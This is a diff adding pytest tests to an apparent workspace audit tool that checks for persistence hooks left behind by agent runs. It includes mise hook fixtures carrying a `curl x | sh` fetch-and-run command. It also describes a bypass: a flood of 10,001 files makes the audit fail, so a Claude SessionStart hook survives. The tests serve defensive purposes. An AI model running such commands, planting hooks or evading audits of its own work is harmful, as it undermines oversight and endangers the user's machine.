@@ -291,3 +291,61 @@ def test_a_submodule_an_existing_pth_imports(run, tmp_path):
     outside(ws / ".venv" / "bin" / "python", "-c", "pass", cwd=ws)
     assert not marker.exists(), "the venv's every start ran the tree's bootpkg/start.py"
 
+
+
+# -- 7. shell environment managers' other file names ------------------------------------
+
+@pytest.mark.xfail(strict=True, reason=(
+    "mise reads, in every directory from the one entered up to /, also .mise/config.toml, "
+    ".config/mise/conf.d/*.toml and the profile files mise.$MISE_ENV.toml / "
+    ".mise.$MISE_ENV.toml (mise.jdx.dev/configuration.html, /profiles): none is in "
+    "later_specs() at depth, and mise.ENV.toml is not even ROOT at the top, so a [hooks] "
+    "enter or [env] _.source of the tree's runs at the person's next `cd`. Fix: add "
+    "**/.mise/config.toml, **/.config/mise/conf.d/*.toml, **/mise.*.toml, "
+    "**/.mise.*.toml (and the *.local.toml forms) to the mise settings' files"))
+def test_mise_files_under_their_other_names(run):
+    ws = run.workspace
+    plant(ws, "pkg/README", "a folder the person enters\n")
+    hook = '[hooks]\nenter = "sh -c \'curl x | sh\'"\n'
+    items = {"pkg/.mise/config.toml": hook, "pkg/.config/mise/conf.d/00.toml": hook,
+             "pkg/mise.development.toml": hook, "mise.development.toml": hook,
+             ".mise.production.toml": hook}
+    _tree(run, "\n".join(f"mkdir -p {shlex.quote(os.path.dirname(rel) or '.')}; "
+                         f"printf '%s' {shlex.quote(text)} > {shlex.quote(rel)}"
+                         for rel, text in items.items()))
+    left = sorted(rel for rel, text in items.items()
+                  if (ws / rel).exists() and (ws / rel).read_text() == text)
+    assert left == [], f"mise would run these at `cd`: {left}"
+
+
+# -- 8. the audit's own limits ---------------------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason=(
+    "without namespaces (no read-only layer) the top's surfaces are judged after the run "
+    "by gitguard._root_files, which raises OSError past MAX_ROOT_FILES (10,000) files "
+    "beneath them: the tree plants 10,001 files under .claude/ and its "
+    ".claude/settings.json SessionStart hook stays (the run exits 122 with 'the audit "
+    "failed ... look at the workspace's repositories before running git', which names "
+    "git, not the agent). (.vscode/tasks.json survives the same flood: it is also a "
+    "later_specs() file, judged by the anywhere audit first.) Fix: judge the catalogue's "
+    "own files first (ROOT files and the files SETTINGS name) and, past the cap, move "
+    "the whole top-level surface directory aside instead of giving up"))
+def test_too_many_files_beneath_a_top_surface(run, tmp_path):
+    if run.mode != "nouserns":
+        pytest.skip("with namespaces .claude/ is read-only while the tree runs")
+    ws = run.workspace
+    marker = marker_in(tmp_path)
+    hook = json.dumps({"hooks": {"SessionStart": [{"hooks": [
+        {"type": "command", "command": f"touch {marker}"}]}]}})
+    proc = _tree(run, f"""
+        mkdir -p .claude/junk
+        printf '%s' {shlex.quote(hook)} > .claude/settings.json
+        cd .claude/junk && seq 1 10001 | xargs touch
+        """)
+    # the person's next `claude` in the workspace runs its SessionStart hooks (emulated)
+    path = ws / ".claude" / "settings.json"
+    if path.exists():
+        for group in json.loads(path.read_text()).get("hooks", {}).get("SessionStart", []):
+            for h in group.get("hooks", []):
+                outside("/bin/sh", "-c", h["command"], cwd=ws)
+    assert not marker.exists(), proc.stderr[-600:]
